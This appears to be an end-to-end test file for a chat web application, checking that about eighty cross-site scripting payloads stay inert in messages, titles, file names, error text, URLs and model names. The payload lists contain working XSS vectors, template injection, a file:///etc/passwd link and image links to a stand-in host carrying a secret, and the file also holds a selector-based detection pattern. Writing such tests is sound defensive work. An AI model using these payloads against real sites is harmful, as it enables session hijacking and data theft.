import { answers, ask, newChat, pick } from "./support/chat.ts";
import { expect, test } from "./support/fixtures.ts";
import { Stack } from "./support/stack.ts";

// What strangers can write, in every field that shows it. `pwned` is what each of them would set.
const run = "window.pwned=1";
const tags = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<scr<script>ipt>${run}</script>`,
  `"><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<style>@import 'javascript:${run}';</style>`,
  `<link rel=stylesheet href="data:text/css,*{color:red}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<frameset onload=${run}>`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<button formaction="javascript:${run}">go</button>`,
  `<isindex action=javascript:${run} type=submit>`,
  `<x-element is="script">${run}</x-element>`,
];
const events = [
  "img src=x onerror",
  "img src=x:x onerror",
  "image src=x onerror",
  "svg onload",
  "svg/onload",
  "body onload",
  "body onpageshow",
  "input autofocus onfocus",
  "select autofocus onfocus",
  "textarea autofocus onfocus",
  "video src=x onerror",
  "audio src=x onerror",
  "video><source onerror",
  "details open ontoggle",
  "marquee onstart",
  "div onpointerover",
  "div style=animation-name:caret onanimationstart",
  "a href=# onclick",
  "dialog open onclose",
].map((tag) => `<${tag}="${run}">`);
const drawn = [
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></foreignObject></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `$$\\href{javascript:${run}}{x}$$`,
  `$$\\htmlData{onclick=${run}}{x}$$`,
  `$$\\includegraphics{https://evil.example/p.png}$$`,
  `$$\\url{javascript:${run}}$$`,
];
const links = [
  `[x](javascript:${run})`,
  `[x](JaVaScRiPt:${run})`,
  `[x](java\nscript:${run})`,
  `[x](&#106;avascript:${run})`,
  `[x](\u0001javascript:${run})`,
  `[x](javascript&colon;${run})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)`,
  `[x](data:image/svg+xml,<svg onload=${run}>)`,
  `[x](blob:https://evil.example/1)`,
  `[x](file:///etc/passwd)`,
  `[x][ref]\n\n[ref]: javascript:${run}`,
  `<javascript:${run}>`,
  `[x](https://good.example" onmouseover="${run})`,
  `![x](javascript:${run})`,
  `![x](https://evil.example/p.png?q=secret)`,
  `![x](//evil.example/p.png)`,
  `![x" onerror="${run}](x)`,
  `[^1]\n\n[^1]: <img src=x onerror=${run}>`,
  `| <img src=x onerror=${run}> | [x](javascript:${run}) |\n|---|---|\n| a | b |`,
];
const other = [
  "```html\n<script>window.pwned=1</script>\n```",
  '```"><img src=x onerror=window.pwned=1>\nx\n```',
  "```mermaid\ngraph TD;A[<img src=x onerror=window.pwned=1>]\n```",
  "`<img src=x onerror=window.pwned=1>`",
  "{{constructor.constructor('window.pwned=1')()}}",
  "${window.pwned=1}",
  "\u202etxt.exe\u202c \u200bhidden",
];
const payloads = [...tags, ...events, ...drawn, ...links, ...other];
const hot =
  "script:not([src]), iframe, object, embed, base, form:not([action]) [formaction], svg script, [onerror], [onload], [onclick], [ontoggle], [onfocus], a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i], a[href^='file' i], a[href^='blob' i], img[src^='http']";

test("@once eighty attacks in every field are text: nothing runs, nothing is fetched, the policy has nothing to stop", async ({
  app,
  stack,
}) => {
  test.setTimeout(180_000);
  expect(payloads.length).toBeGreaterThanOrEqual(80);
  const outside: string[] = [];
  app.on("request", (request) => {
    const url = request.url();
    if (!/^(blob|data):/.test(url) && !url.startsWith(stack.url))
      outside.push(url);
  });
  await app.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    document.addEventListener("securitypolicyviolation", (event) =>
      seen.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
  const harmless = async (where: string): Promise<void> => {
    const found = await app.evaluate((selector) => {
      const { seen } = window as unknown as { seen: readonly string[] };
      const hits = document.querySelectorAll(`main :is(${selector})`);
      return {
        ran: "pwned" in window,
        seen,
        hot: [...hits].map((hit) => hit.outerHTML.slice(0, 200)),
      };
    }, hot);
    expect(found, where).toEqual({ ran: false, seen: [], hot: [] });
    expect(outside, where).toEqual([]);
  };
  await newChat(app);
  await pick(app, "gpt-mini");
  await test.step("the question, its answer and the title", async () => {
    for (const [index, some] of [tags, events, drawn, links, other].entries()) {
      const text = `group ${index} `;
      stack.upstream.on(text, {
        pieces: some.flatMap((payload) => [payload, "\n\n"]).concat("the end"),
        reasoning: some,
        gap: 1,
      });
      await ask(app, text + some.join("\n"));
      await expect(answers(app).last()).toContainText("the end");
      await harmless(`group ${index}`);
    }
    const url = app.url();
    const id = url.split("/").at(-1) ?? "";
    for (const payload of [tags[4], events[0], "\u202eevil"]) {
      await app.evaluate(
        ([path, title]) =>
          fetch(path ?? "", {
            method: "PATCH",
            headers: {
              "content-type": "application/json",
              "x-trunkline-csrf": "1",
            },
            body: JSON.stringify({ title }),
          }),
        [`/api/conversations/${id}`, payload],
      );
      await app.reload();
      await expect(answers(app).last()).toContainText("the end");
      await harmless("title");
    }
  });
  await test.step("a file's name", async () => {
    await newChat(app);
    await pick(app, "gpt-mini");
    await app.getByLabel("Files to attach").setInputFiles(
      [
        "<img src=x onerror=window.pwned=1>.txt",
        '"><svg onload=window.pwned=1>.txt',
      ].map((name) => ({
        name,
        mimeType: "text/plain",
        buffer: Buffer.from("x"),
      })),
    );
    await expect(
      app.getByRole("list", { name: "Files" }).getByRole("listitem"),
    ).toHaveCount(2);
    stack.upstream.on("with files", { pieces: ["Seen."] });
    await ask(app, "with files");
    await expect(answers(app).last()).toContainText("Seen.");
    await harmless("file");
  });
  await test.step("what a provider says when it fails", async () => {
    stack.upstream.on("fail badly", {
      status: 400,
      error: {
        message: payloads.slice(0, 30).join(" "),
        type: "x",
        code: null,
      },
    });
    await ask(app, "fail badly");
    await expect(answers(app).last()).toHaveAttribute("data-status", "error");
    await harmless("error");
  });
  await test.step("addresses: the words, the model, the search", async () => {
    for (const payload of [tags[4] ?? "", events[0] ?? ""]) {
      await app.goto(
        `/?q=${encodeURIComponent(payload)}&model=${encodeURIComponent(payload)}`,
      );
      await expect(app.getByRole("textbox", { name: "Message" })).toBeVisible();
      await harmless("/");
      await app.goto(`/models/${encodeURIComponent(payload)}`);
      await expect(app.getByRole("heading", { level: 1 })).toBeVisible();
      await harmless("/models");
      await app.goto(
        `/compare/new?models=${encodeURIComponent(payload)},local&q=${encodeURIComponent(payload)}`,
      );
      await expect(app.getByRole("heading", { level: 1 })).toBeVisible();
      await harmless("/compare/new");
    }
    await newChat(app);
    await app.keyboard.press("Control+k");
    await app.getByRole("dialog").getByRole("combobox").fill("onerror");
    await expect(app.getByRole("option").first()).toBeVisible();
    await harmless("palette");
  });
});

test("@once a model's name that tries to run is a name, wherever it is shown", async ({
  app,
}) => {
  const names = ["<img src=x onerror=window.pwned=1>", '"><svg onload=window.pwned=1>'];
  const stack = new Stack({ names });
  await stack.start();
  try {
    const harmless = async (): Promise<void> => {
      expect(await app.evaluate(() => "pwned" in window)).toBe(false);
      expect(await app.locator("[onerror], [onload], img[src=x]").count()).toBe(0);
    };
    for (const name of names) {
      await newChat(app, stack.url);
      await app.keyboard.press("Control+;");
      const dialog = app.getByRole("dialog", { name: "Choose a model" });
      await dialog.getByRole("combobox").fill(name);
      await expect(dialog.getByRole("option")).toHaveCount(1);
      await expect(dialog.getByRole("option")).toContainText(name);
      await app.keyboard.press("Enter");
      await expect(dialog).toBeHidden();
      await ask(app, "who are you");
      await expect(answers(app).last()).toContainText("You said: who are you");
      await expect(answers(app).last()).toContainText(name);
      await harmless();
      await app.goto(`${stack.url}/models`);
      await expect(app.getByText(name).first()).toBeVisible();
      await harmless();
      await app.goto(`${stack.url}/usage`);
      await expect(app.getByText(name).first()).toBeVisible();
      await harmless();
    }
  } finally {
    await stack.stop();
  }
});
